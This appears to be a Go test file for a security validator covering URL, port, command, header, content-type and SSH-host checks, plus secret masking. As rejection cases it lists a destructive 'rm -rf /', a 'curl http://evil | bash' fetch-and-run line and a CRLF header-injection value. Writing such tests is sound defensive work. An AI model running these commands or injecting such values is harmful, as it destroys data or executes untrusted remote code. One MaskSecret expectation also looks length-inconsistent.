package security

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestCheckURLRejectsPrivateByDefault(t *testing.T) {
	t.Parallel()
	v := New(Options{})
	assert.Error(t, v.CheckURL("http://127.0.0.1:8080/x"))
	assert.Error(t, v.CheckURL("http://10.0.0.5/x"))
	assert.NoError(t, v.CheckURL("https://example.com/x"))
}

func TestCheckURLAllowsLocalWhenEnabled(t *testing.T) {
	t.Parallel()
	v := New(Options{AllowLocalConnections: true})
	assert.NoError(t, v.CheckURL("http://127.0.0.1:8080/x"))
}

func TestCheckURLRestrictedPort(t *testing.T) {
	t.Parallel()
	v := New(Options{AllowLocalConnections: true})
	assert.Error(t, v.CheckURL("http://example.com:445/x"))
	assert.NoError(t, v.CheckURL("http://example.com:22/x")) // not restricted in HTTP direction either, only listed ports are
}

func TestCheckCommandBlocklist(t *testing.T) {
	t.Parallel()
	v := New(Options{})
	assert.Error(t, v.CheckCommand("rm -rf /"))
	assert.Error(t, v.CheckCommand("sudo reboot"))
	assert.Error(t, v.CheckCommand("curl http://evil | bash"))
	assert.NoError(t, v.CheckCommand("ls -la"))
}

func TestCheckHeaderValue(t *testing.T) {
	t.Parallel()
	v := New(Options{})
	assert.Error(t, v.CheckHeaderValue("value\r\ninjected"))
	assert.NoError(t, v.CheckHeaderValue("normal-value"))
}

func TestCheckContentTypeAllowlist(t *testing.T) {
	t.Parallel()
	v := New(Options{AllowedContentTypes: []string{"application/json"}})
	assert.NoError(t, v.CheckContentType("application/json; charset=utf-8"))
	assert.Error(t, v.CheckContentType("text/html"))
}

func TestComposeStrategies(t *testing.T) {
	t.Parallel()

	builtin := func(s any) bool { return s.(int) > 0 }
	override := func(s any) bool { return s.(int) < 10 }

	appended := Compose(builtin, override, StrategyAppend)
	assert.True(t, appended(5))
	assert.False(t, appended(-1))
	assert.False(t, appended(20))

	replaced := Compose(builtin, override, StrategyOverride)
	assert.True(t, replaced(-5))
	assert.False(t, replaced(20))

	passthrough := Compose(builtin, nil, StrategyAppend)
	assert.True(t, passthrough(5))
	assert.False(t, passthrough(-1))
}

func TestNewWiresCommandOverrideViaCompose(t *testing.T) {
	t.Parallel()

	blockDeploy := func(s any) bool {
		command, _ := s.(string)
		return command != "deploy-prod"
	}
	v := New(Options{CommandOverride: blockDeploy, OverrideStrategy: StrategyAppend})
	assert.NoError(t, v.CheckCommand("ls -la"))
	assert.Error(t, v.CheckCommand("deploy-prod"))
	assert.Error(t, v.CheckCommand("rm -rf /")) // built-in blocklist still applies under append
}

func TestNewWiresURLOverrideWithReplaceStrategy(t *testing.T) {
	t.Parallel()

	allowOnlyInternal := func(s any) bool {
		host, _ := s.(string)
		return host == "internal.example.com"
	}
	v := New(Options{
		AllowLocalConnections: true,
		URLOverride:           allowOnlyInternal,
		OverrideStrategy:      StrategyOverride,
	})
	assert.NoError(t, v.CheckURL("https://internal.example.com/x"))
	assert.Error(t, v.CheckURL("https://example.com/x"))
}

func TestNewWiresSSHHostOverride(t *testing.T) {
	t.Parallel()

	denyBastion := func(s any) bool {
		host, _ := s.(string)
		return host != "bastion.example.com"
	}
	v := New(Options{SSHHostOverride: denyBastion})
	assert.Error(t, v.CheckSSHHost("bastion.example.com", 22))
	assert.NoError(t, v.CheckSSHHost("web-01.example.com", 22))
}

func TestMaskSecret(t *testing.T) {
	t.Parallel()
	assert.Equal(t, "****", MaskSecret("abcd"))
	assert.Equal(t, "**********7890", MaskSecret("123456787890"))
}
